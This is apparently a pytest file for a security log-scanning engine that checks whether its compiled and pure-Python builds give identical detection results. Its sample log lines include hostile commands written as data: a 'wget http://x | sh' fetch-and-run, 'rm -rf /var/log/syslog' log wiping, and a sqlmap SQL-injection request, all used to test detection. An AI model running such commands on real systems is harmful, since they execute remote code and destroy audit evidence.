"""Compiled (Cython) and pure-Python engine give identical results.

``pip install`` compiles the engine's hot modules from their unchanged sources
(``setup.py``); ``WANGAN_LOGSCAN_PURE=1`` makes the same checkout run the sources.
Each mode runs in its own interpreter over the same input and writes what it got:
every event (all fields), the rules each event matched, the alerts with their
events, the chains and the risks.  Without a compiled build both runs are pure
Python and the comparison still checks the switch itself.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from wangan.engines.logscan import _compiled

from .conftest import SHARED

REPO = Path(__file__).resolve().parents[5]

_RUN = r"""
import json, sys
sys.path.insert(0, sys.argv[3])
import corpus
from wangan.engines.logscan import _compiled, load_rules, scan
from wangan.engines.logscan.event import event_to_tuple
from wangan.engines.logscan.parsers import LineParser
from wangan.engines.logscan.timeutil import Clock

extra = json.loads(open(sys.argv[2], encoding="utf-8").read())
lines = [line for _, line in corpus.generate(int(sys.argv[4]), seed=11)] + extra
rules = load_rules(sys.argv[5:] or None)
lp = LineParser(Clock(reference=1772900000.0), source="mixed.log")
events = lp.parse_block(lines, 1)
hits = []
for start in range(0, len(events), 977):
    for i, rs in rules.match_block(events[start:start + 977], lines[start:start + 977]):
        hits.append([start + i, [r.id for r in rs]])
res = scan(lines, rules=rules, reference_time=1772900000.0, max_alerts=5000)
stats = {k: v for k, v in res.stats.items() if k not in ("elapsed_s", "events_per_s")}
result = res.to_dict(with_events=True)
result["stats"] = stats
out = {"compiled": _compiled.compiled_modules(), "events": [repr(event_to_tuple(e)) for e in events],
       "counts": dict(lp.counts), "hits": hits, "stats": stats, "result": result,
       "alert_reprs": [repr(a) for a in res.alerts]}
with open(sys.argv[1], "w", encoding="utf-8") as fh:
    json.dump(out, fh, default=str, sort_keys=True)
"""

# shapes the fast paths special-case, their near misses, and bad input
EXTRA = [
    "Mar  3 10:00:00 h sshd[1]: Failed password for root from 192.0.2.1 port 22 ssh2",
    "Mar  3 10:00:00 h sshd[1]: Failed password for invalid user a b from 192.0.2.1 port 22 ssh2",
    "Mar  3 10:00:00 h sshd[1]: Failed publickey for root from [2001:db8::1] port 22 ssh2: RSA SHA256:x",
    "Mar  3 10:00:00 h sshd[1]: Failed password for root from ::ffff:192.0.2.1 port 2x ssh2",
    "Mar  3 10:00:00 h sshd[1]: Accepted password for u from 192.0.2.2 port 1 ssh2",
    "Mar  3 10:00:00 h sshd[1]: Invalid user  from 192.0.2.3 port 9 [preauth]",
    "Mar  3 10:00:00 h sshd[1]: Disconnecting: Too many authentication failures for root [preauth]",
    "Mar 13 23:59:59 h sshd-session[77]: Connection closed by authenticating user root 192.0.2.9 port 1 [preauth]",
    "Feb 29 10:00:00 h su(pam_unix)[9]: session opened for user root by x(uid=0)",
    "Foo 13 10:00:00 h x: y", "Mar 33 25:61:61 h x[1]: y", "Mar  3 10:00:00 2026 h sshd[1]: x",
    "<13>Mar  3 10:00:00 h su: FAILED su for root by x", "<34>1 2026-03-03T10:00:00Z h app 1 - - hi",
    "2026-03-03T10:00:00+08:00 h sshd[1]: Failed password for root from 192.0.2.1 port 22 ssh2",
    '203.0.113.1 - - [03/Mar/2026:10:00:00 +0000] "GET /é?a=UNION%20SELECT HTTP/1.1" 200 1 "-" "sqlmap/1.7"',
    'vh 192.0.2.1 - - [03/Mar/2026:10:00:00 +0000] "GET / HTTP/1.1" 200 1 "r" "u"',
    '[2001:db8::2] - bob [31/Feb/2026:25:00:61 -0530] "a\\"b c d" - - "r\\"ef" "u\\\\a"',
    '192.0.2.1 - - [03/Foo/2026:10:00:00 +0000] "GET / HTTP/1.1" 200 1',
    '2026/03/03 10:00:00 [error] 1#0: *1 open() failed, client: 192.0.2.1, server: s, request: "GET /x HTTP/1.1"',
    "[Tue Sep 30 14:25:44 2014] [error] [client 192.0.2.1] user x not found: /",
    '{"message": "wget http://x | sh", "process.name": "bash", "ts": 1772900000123}',
    'type=EXECVE msg=audit(1.2:3): argc=2 a0="rm" a1=2F7661722F6C6F67',
    "Mar  3 10:00:00 h kernel: device eth0 entered promiscuous mode",
    "Mar  3 10:00:00 h bash: rm -rf /var/log/syslog 登录", "", " ", "\x00\x01garbage", "x" * 3000,
]


def _run(tmp_path: Path, pure: bool, n: int, rules: list[str]) -> dict:
    extra = tmp_path / "extra.json"
    extra.write_text(json.dumps(EXTRA), encoding="utf-8")
    out = tmp_path / f"out-{int(pure)}.json"
    env = dict(os.environ)
    env.pop(_compiled.PURE_ENV, None)
    if pure:
        env[_compiled.PURE_ENV] = "1"
    env["PYTHONPATH"] = os.pathsep.join([str(REPO / "src"), env.get("PYTHONPATH", "")])
    subprocess.run([sys.executable, "-c", _RUN, str(out), str(extra), str(REPO / "bench" / "logscan"), str(n), *rules],
                   check=True, env=env, cwd=str(tmp_path), timeout=600)
    return json.loads(out.read_text(encoding="utf-8"))


def _same(a: dict, b: dict) -> None:
    for key in ("events", "hits", "counts", "stats", "alert_reprs", "result"):
        x, y = a[key], b[key]
        if isinstance(x, list) and x != y:
            i = next((i for i, (p, q) in enumerate(zip(x, y, strict=False)) if p != q), min(len(x), len(y)))
            pytest.fail(f"{key} differ at {i}: {x[i:i + 1]!r} != {y[i:i + 1]!r} (lengths {len(x)}, {len(y)})")
        assert x == y, key


def test_compiled_and_pure_python_give_identical_results(tmp_path, monkeypatch):
    # built-in pack plus the SigmaHQ samples when the shared data is beside the checkout
    rules = [str(SHARED / "sigma-rules")] if (SHARED / "sigma-rules").is_dir() else []
    compiled = _run(tmp_path, False, 30000, rules)
    pure = _run(tmp_path, True, 30000, rules)
    monkeypatch.delenv(_compiled.PURE_ENV, raising=False)
    built = [m for m in _compiled.MODULES if _compiled._extension_path(m) and not _compiled._use_source(m)]
    if len(built) < len(_compiled.MODULES):  # all or nothing (they share the compiled Event type)
        built = []
    built += [h for h in _compiled.HELPERS if _compiled._helper_fresh(h)]
    assert sorted(compiled["compiled"]) == sorted(built)  # the first run did use every fresh extension
    assert pure["compiled"] == []
    assert len(pure["events"]) == 30000 + len(EXTRA) and len(pure["hits"]) > 5000
    assert pure["result"]["alerts"] and pure["result"]["chains"]
    _same(compiled, pure)


def test_compiled_modules_are_used_when_built():
    built = [m for m in _compiled.MODULES if _compiled._extension_path(m) is not None]
    if not built:
        pytest.skip("engine not compiled in this checkout (no Cython build)")
    fresh = [m for m in built if not _compiled._use_source(m)]
    if len(fresh) < len(_compiled.MODULES):  # one stale or missing -> every module runs as source
        fresh = []
    fresh += [h for h in _compiled.HELPERS if _compiled._helper_fresh(h)]
    if os.environ.get(_compiled.PURE_ENV):
        assert _compiled.compiled_modules() == []
    else:
        assert sorted(_compiled.compiled_modules()) == sorted(fresh)


def test_stale_extension_falls_back_to_source(tmp_path, monkeypatch):
    """An extension older than its source is ignored (an edited checkout not rebuilt)."""
    monkeypatch.setattr(_compiled, "_HERE", str(tmp_path))
    monkeypatch.delenv(_compiled.PURE_ENV, raising=False)
    import importlib.machinery
    src, ext = tmp_path / "parsers.py", tmp_path / ("parsers" + importlib.machinery.EXTENSION_SUFFIXES[0])
    src.write_text("x = 1\n")
    ext.write_bytes(b"")
    os.utime(src, (1000, 1000))
    os.utime(ext, (2000, 2000))
    assert not _compiled._use_source("parsers")
    os.utime(src, (3000, 3000))
    assert _compiled._use_source("parsers")
    # compile-time declarations beside the source count too
    os.utime(src, (1000, 1000))
    pxd = tmp_path / "parsers.pxd"
    pxd.write_text("")
    os.utime(pxd, (3000, 3000))
    assert _compiled._use_source("parsers")
    os.utime(pxd, (1500, 1500))
    assert not _compiled._use_source("parsers")
    monkeypatch.setenv(_compiled.PURE_ENV, "1")
    os.utime(src, (1000, 1000))
    assert _compiled._use_source("parsers")
